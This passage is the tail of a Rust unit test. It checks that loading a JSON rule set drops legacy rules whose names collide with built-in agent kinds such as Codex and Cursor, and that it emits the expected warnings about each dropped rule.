        let (set, warnings) = RuleSet::from_json(text.as_bytes()).expect("parses");
        let kept: Vec<&str> = set.rules.iter().map(|r| r.id.as_str()).collect();
        assert_eq!(kept, ["r-4", "r-5"]);
        assert_eq!(set.rules[0].identity, Identity::Builtin(AgentKind::Codex));
        assert_eq!(set.rules[1].identity, named("my-tool"));
        assert_eq!(warnings.len(), 5, "{warnings:?}");
        assert_eq!(
            warnings[0],
            "dropped rule r-1 kept under 'cursor', now a built-in agent"
        );
        assert!(warnings[2].contains("r-3") && warnings[2].contains("now a built-in agent"));
    }
}
